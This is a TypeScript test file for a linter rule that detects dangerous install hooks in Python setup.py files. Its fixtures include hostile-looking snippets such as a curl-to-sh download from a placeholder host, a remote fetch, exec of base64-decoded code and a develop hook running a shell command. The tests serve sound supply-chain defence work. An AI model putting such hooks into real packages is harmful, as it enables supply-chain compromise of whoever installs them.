import rule from '../../../src/core/rules/text/setup-py-hook';
import * as assert from 'node:assert/strict';
import { ruleTester, runTs } from '../../ruleTester';
import { loadPythonParser } from '../../../src/node/python';

describe('text/setup-py-hook (Python parser loaded)', () => {
  before(async () => {
    await loadPythonParser();
  });
  table();
});

function table(): void {
  ruleTester(rule, {
    valid: [
      { filename: 'setup.py', code: "from setuptools import setup\nsetup(name='x', install_requires=['requests'])\n" },
      {
        filename: 'setup.py',
        code: "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x', version=__version__)\n",
      },
      {
        filename: 'setup.py',
        code: "import versioneer\nsetup(name='x', version=versioneer.get_version(), cmdclass=versioneer.get_cmdclass())\n",
      },
      {
        filename: 'setup.py',
        code: "import subprocess\nversion = subprocess.check_output(['git', 'describe', '--tags']).decode()\nsetup(name='x', version=version)\n",
      },
      { filename: 'setup.py', code: "# os.system('curl x | sh')\nsetup(name='x')\n" },
      { filename: 'scripts/install.py', code: "import os\nos.system('pip install .')\n" },
      {
        filename: 'setup.py',
        code: "from setuptools import setup, find_packages\nsetup(\n    name='x',\n    packages=find_packages(),\n    entry_points={'console_scripts': ['x=x.cli:main']},\n)\n",
      },
    ],
    invalid: [
      {
        filename: 'setup.py',
        code: "from setuptools import setup\nfrom hooks import PostInstall\nsetup(name='x', cmdclass={'install': PostInstall})\n",
        errors: [{ messageId: 'cmdclass', severity: 'high', line: 3, category: 'supply-chain' }],
      },
      {
        filename: 'pkg/setup.py',
        code: "from setuptools.command.install import install\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\nsetup(\n    name='x',\n    cmdclass={\n        'install': PostInstall,\n        'develop': PostInstall,\n    },\n)\n",
        errors: [
          { messageId: 'cmdclass', line: 8 },
          { messageId: 'cmdclass', line: 9 },
        ],
      },
      {
        filename: 'setup.py',
        code: "from setuptools.command.egg_info import egg_info\nclass Hook(egg_info):\n    def run(self):\n        pass\ncommands = {}\ncommands['egg_info'] = Hook\n",
        errors: [{ messageId: 'commandClass', line: 2 }],
      },
      {
        filename: 'setup.py',
        code: "import os\nos.system('curl https://x.example/p.sh | sh')\nsetup(name='x')\n",
        errors: [{ messageId: 'action', severity: 'high', line: 2 }],
      },
      {
        filename: 'setup.py',
        code: "import urllib.request\nurllib.request.urlopen('https://x.example/p').read()\n",
        errors: [{ messageId: 'action' }],
      },
      { filename: 'setup.py', code: "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", errors: [{ messageId: 'action' }] },
      { filename: 'setup.py', code: "import subprocess\nsubprocess.Popen(['python', '-c', PAYLOAD])\n", errors: [{ messageId: 'action' }] },
      {
        filename: 'setup.py',
        code: 'from setuptools.command.develop import develop\nclass D(develop):\n    def run(self):\n        os.system(\'bash -c "id"\')\n        develop.run(self)\nsetup(cmdclass=dict(develop=D))\n',
        errors: [
          { messageId: 'action', line: 4 },
          { messageId: 'cmdclass', line: 6 },
        ],
      },
    ],
  });
}

describe(`${rule.meta.id} meta examples`, () => {
  rule.meta.incorrect.forEach((ex, i) =>
    it(`incorrect ${i}`, () => assert.ok(runTs(rule, ex.code, ex.filename).some((f) => f.ruleId === rule.meta.id))),
  );
  rule.meta.correct.forEach((ex, i) =>
    it(`correct ${i}`, () =>
      assert.deepEqual(
        runTs(rule, ex.code, ex.filename).filter((f) => f.ruleId === rule.meta.id),
        [],
      )),
  );
});
